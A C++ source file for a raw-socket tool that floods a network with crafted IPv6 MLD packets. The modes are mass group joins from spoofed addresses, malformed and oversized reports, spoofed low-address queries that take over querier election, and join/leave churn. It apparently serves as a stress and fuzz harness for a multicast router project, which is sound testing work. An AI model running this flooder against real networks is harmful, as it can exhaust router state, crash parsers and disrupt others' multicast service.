// A host that means no good: sends crafted MLD messages as fast as it can, or at a steady rate, then says how many.
//
//   mld_flood -i IFACE -k KIND -n COUNT [-r PER_SECOND] [-x SEED]
//
//   groups     good reports for 10,000 groups from 1,000 addresses
//   malformed  reports and queries cut short, with wrong counts, types, lengths and random bytes
//   records    reports that announce 65,535 records
//   sources    records that announce 65,535 sources
//   queriers   queries from addresses lower than any router's
//   churn      one host that joins and leaves one group
//
// Every message carries a good checksum and the router alert option, so that the kernel hands it on. Ends after COUNT
// messages or on SIGTERM; prints "sent N".

#include "mcast_socket.h"

#include <algorithm>
#include <array>
#include <csignal>
#include <ctime>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <string_view>
#include <unistd.h>

namespace {

constexpr std::size_t ethernet_bytes = 14;
constexpr std::size_t ip_bytes = 40;
constexpr std::size_t option_bytes = 8; // hop-by-hop header with router alert (RFC 2711) and padding
constexpr std::size_t icmp_offset = ethernet_bytes + ip_bytes + option_bytes;
constexpr std::size_t longest_icmp = 1500 - ip_bytes - option_bytes;
constexpr std::size_t address_bytes = 16;
constexpr std::size_t record_bytes = 20;
constexpr std::size_t first_record = 8;

constexpr std::uint8_t mld_query = 130, mld_v1_report = 131, mld_v2_report = 143;
constexpr std::uint8_t to_include = 3, to_exclude = 4, last_record_kind = 6;
constexpr unsigned flooded_groups = 10'000, flooding_hosts = 1'000;

using address = std::array<std::uint8_t, address_bytes>;

volatile std::sig_atomic_t stop_is_wanted = 0;

void stop(int) { stop_is_wanted = 1; }

struct flood {
  const char *interface = nullptr;
  std::string_view kind;
  long count = 0;
  long per_second = 0; // 0: as fast as it goes
  std::uint64_t seed = 1;
};

struct message {
  address sender{};
  address destination{};
  std::array<std::uint8_t, longest_icmp> icmp{}; // from the type byte on
  std::size_t length = 0;
};

std::uint64_t random_state = 1;

// Marsaglia's xorshift64: the same seed gives the same flood.
std::uint64_t next_random() {
  random_state ^= random_state << 13;
  random_state ^= random_state >> 7;
  random_state ^= random_state << 17;
  return random_state;
}

std::size_t random_below(std::size_t bound) { return static_cast<std::size_t>(next_random() % bound); }

std::uint8_t random_byte() { return static_cast<std::uint8_t>(next_random() >> 32); }

void put_u16(std::uint8_t *at, std::size_t value) {
  at[0] = static_cast<std::uint8_t>(value >> 8);
  at[1] = static_cast<std::uint8_t>(value);
}

address host_address(std::size_t number) {
  address host{0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xba, 0xd0};
  put_u16(&host[14], number);
  return host;
}

address group_address(std::size_t number) {
  address group{0xff, 0x0e, 0xba, 0xd0};
  put_u16(&group[14], number);
  return group;
}

constexpr address all_nodes{0xff, 0x02, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x01};
constexpr address all_mldv2_routers{0xff, 0x02, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x16};

// Writes one record without sources at the end of the report.
void add_record(message &report, std::uint8_t kind, const address &group, std::size_t claimed_sources) {
  std::uint8_t *record = &report.icmp[report.length];
  record[0] = kind;
  put_u16(&record[2], claimed_sources);
  std::copy(group.begin(), group.end(), record + 4);
  report.length += record_bytes;
}

message empty_report(std::size_t host, std::size_t claimed_records) {
  message report;
  report.sender = host_address(host);
  report.destination = all_mldv2_routers;
  report.icmp[0] = mld_v2_report;
  put_u16(&report.icmp[6], claimed_records);
  report.length = first_record;
  return report;
}

message to_groups(long number) {
  const auto index = static_cast<std::size_t>(number);
  message report = empty_report(index % flooding_hosts, 1);
  add_record(report, to_exclude, group_address(index % flooded_groups), 0);
  return report;
}

message to_too_many_records(long) {
  message report = empty_report(random_below(flooding_hosts), UINT16_MAX);
  while (report.length + record_bytes <= report.icmp.size()) {
    const auto kind = static_cast<std::uint8_t>(1 + random_below(last_record_kind));
    add_record(report, kind, group_address(random_below(flooded_groups)), 0);
  }
  return report;
}

message to_too_many_sources(long) {
  message report = empty_report(random_below(flooding_hosts), 1);
  const auto kind = static_cast<std::uint8_t>(1 + random_below(last_record_kind));
  add_record(report, kind, group_address(random_below(flooded_groups)), UINT16_MAX);
  std::generate(report.icmp.begin() + first_record + record_bytes, report.icmp.end(), random_byte);
  report.length = report.icmp.size();
  return report;
}

message to_lower_query(long number) {
  message query;
  query.sender = {0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, static_cast<std::uint8_t>(1 + number % 200)};
  query.destination = all_nodes;
  query.icmp[0] = mld_query;
  query.length = first_record + record_bytes;
  return query;
}

message to_malformed(long number) {
  message spoilt = to_groups(number);
  switch (random_below(5)) {
  case 0: // cut short; a query must keep 24 bytes, the kernel drops others
    spoilt.length = random_below(spoilt.length) + 1;
    break;
  case 1: // wrong counts and kinds
    put_u16(&spoilt.icmp[6], random_below(UINT16_MAX));
    spoilt.icmp[first_record] = random_byte();
    put_u16(&spoilt.icmp[first_record + 2], random_below(UINT16_MAX));
    break;
  case 2: // a record whose auxiliary data is not there
    spoilt.icmp[first_record + 1] = random_byte();
    break;
  case 3: // random bytes behind a good type
    std::generate(spoilt.icmp.begin() + 1, spoilt.icmp.end(), random_byte);
    spoilt.length = 1 + random_below(spoilt.icmp.size());
    break;
  default: // an old report for a random group
    std::generate(spoilt.icmp.begin() + 1, spoilt.icmp.begin() + 24, random_byte);
    spoilt.icmp[0] = mld_v1_report;
    spoilt.length = 1 + random_below(24);
    break;
  }
  return spoilt;
}

message to_churn(long number) {
  message report = empty_report(0, 1);
  add_record(report, number % 2 == 0 ? to_exclude : to_include, group_address(0), 0);
  return report;
}

message make_message(std::string_view kind, long number) {
  if (kind == "groups") {
    return to_groups(number);
  }
  if (kind == "malformed") {
    return to_malformed(number);
  }
  if (kind == "records") {
    return to_too_many_records(number);
  }
  if (kind == "sources") {
    return to_too_many_sources(number);
  }
  if (kind == "queriers") {
    return to_lower_query(number);
  }
  if (kind == "churn") {
    return to_churn(number);
  }
  std::fprintf(stderr, "no such kind of flood: %.*s\n", static_cast<int>(kind.size()), kind.data());
  std::exit(2);
}

// Adds bytes as 16-bit words in network order (RFC 1071); an odd last byte counts as the high one.
std::uint32_t add_words(std::uint32_t sum, const std::uint8_t *bytes, std::size_t length) {
  for (std::size_t i = 0; i < length; ++i) {
    sum += static_cast<std::uint32_t>(bytes[i]) << (i % 2 == 0 ? 8 : 0);
  }
  return sum;
}

std::uint16_t checksum_of(const message &sent) {
  std::uint32_t sum = add_words(0, sent.sender.data(), address_bytes);
  sum = add_words(sum, sent.destination.data(), address_bytes);
  sum += static_cast<std::uint32_t>(sent.length) + IPPROTO_ICMPV6;
  sum = add_words(sum, sent.icmp.data(), sent.length);
  while ((sum >> 16) != 0) {
    sum = (sum & 0xffff) + (sum >> 16);
  }
  return static_cast<std::uint16_t>(~sum);
}

struct frame {
  std::array<std::uint8_t, icmp_offset + longest_icmp> bytes{};
  std::size_t length = 0;
};

frame to_frame(message &sent) {
  if (sent.length >= 4) { // otherwise there is no room for a checksum
    put_u16(&sent.icmp[2], 0);
    put_u16(&sent.icmp[2], checksum_of(sent));
  }
  frame made;
  std::uint8_t *ethernet = made.bytes.data();
  constexpr std::array<std::uint8_t, 6> source_mac{0x02, 0, 0, 0, 0x01, 0xbd};
  ethernet[0] = ethernet[1] = 0x33;
  std::copy(sent.destination.end() - 4, sent.destination.end(), ethernet + 2);
  std::copy(source_mac.begin(), source_mac.end(), ethernet + 6);
  put_u16(ethernet + 12, ETHERTYPE_IPV6);
  std::uint8_t *ip = ethernet + ethernet_bytes;
  ip[0] = 0x60;
  put_u16(ip + 4, option_bytes + sent.length);
  ip[6] = IPPROTO_HOPOPTS;
  ip[7] = 1; // hop limit
  std::copy(sent.sender.begin(), sent.sender.end(), ip + 8);
  std::copy(sent.destination.begin(), sent.destination.end(), ip + 24);
  constexpr std::array<std::uint8_t, option_bytes> router_alert{IPPROTO_ICMPV6, 0, 5, 2, 0, 0, 1, 0};
  std::copy(router_alert.begin(), router_alert.end(), ip + ip_bytes);
  std::copy_n(sent.icmp.begin(), sent.length, ethernet + icmp_offset);
  made.length = icmp_offset + sent.length;
  return made;
}

flood parse(int argc, char **argv) {
  flood wanted;
  for (int letter = getopt(argc, argv, "i:k:n:r:x:"); letter != -1; letter = getopt(argc, argv, "i:k:n:r:x:")) {
    switch (letter) {
    case 'i':
      wanted.interface = optarg;
      break;
    case 'k':
      wanted.kind = optarg;
      break;
    case 'n':
      wanted.count = std::atol(optarg);
      break;
    case 'r':
      wanted.per_second = std::atol(optarg);
      break;
    case 'x':
      wanted.seed = std::strtoull(optarg, nullptr, 10);
      break;
    default:
      std::exit(2);
    }
  }
  if (wanted.interface == nullptr || wanted.kind.empty() || wanted.count < 1 || wanted.seed == 0) {
    std::fputs("usage: mld_flood -i IFACE -k KIND -n COUNT [-r PER_SECOND] [-x SEED]\n", stderr);
    std::exit(2);
  }
  return wanted;
}

int open_sender(const char *interface) {
  const int sender = socket(AF_PACKET, SOCK_RAW, 0);
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = static_cast<int>(to_interface_index(interface));
  if (sender == -1 || bind(sender, reinterpret_cast<const sockaddr *>(&to), sizeof to) == -1) {
    give_up("packet socket");
  }
  return sender;
}

} // namespace

int main(int argc, char **argv) {
  const flood wanted = parse(argc, argv);
  const int sender = open_sender(wanted.interface);
  random_state = wanted.seed;
  std::signal(SIGTERM, stop);
  constexpr long nanoseconds_per_second = 1'000'000'000;
  long sent = 0;
  for (long i = 0; i < wanted.count && stop_is_wanted == 0; ++i) {
    message made = make_message(wanted.kind, i);
    const frame wire = to_frame(made);
    if (send(sender, wire.bytes.data(), wire.length, 0) == static_cast<ssize_t>(wire.length)) {
      ++sent;
    }
    if (wanted.per_second > 1) {
      const timespec gap{0, nanoseconds_per_second / wanted.per_second};
      nanosleep(&gap, nullptr);
    }
  }
  std::printf("sent %ld\n", sent);
  return 0;
}
